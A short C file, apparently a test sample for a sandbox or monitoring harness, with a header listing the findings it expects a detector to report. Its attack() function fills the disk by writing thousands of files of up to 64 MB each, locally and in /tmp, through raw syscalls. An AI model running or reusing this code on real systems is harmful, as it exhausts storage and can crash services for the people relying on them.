/*
 * Fills the disk: its own folder first, then wherever it may write.
 * World: real
 * Finds: filled more than|made more than|wrote a file|assembly
 */
#include "raw.h"

void attack(void)
{
    static char name[] = "/tmp/bomb-00000";
    static char data[1 << 20];

    for (int i = 0; i < 20000; i++) {
        long fd;

        for (int digit = 0, rest = i; digit < 5; digit++, rest /= 10)
            name[14 - digit] = (char)('0' + rest % 10);
        fd = raw_open(name + 5, O_WRONLY | O_CREAT);
        for (int mb = 0; mb < 64 && fd >= 0; mb++)
            if (raw(SYS_write, fd, (long)data, sizeof data, 0, 0) < 0)
                break;
        raw(SYS_close, fd, 0, 0, 0, 0);
        raw(SYS_close, raw_open(name, O_WRONLY | O_CREAT), 0, 0, 0, 0);
    }
}
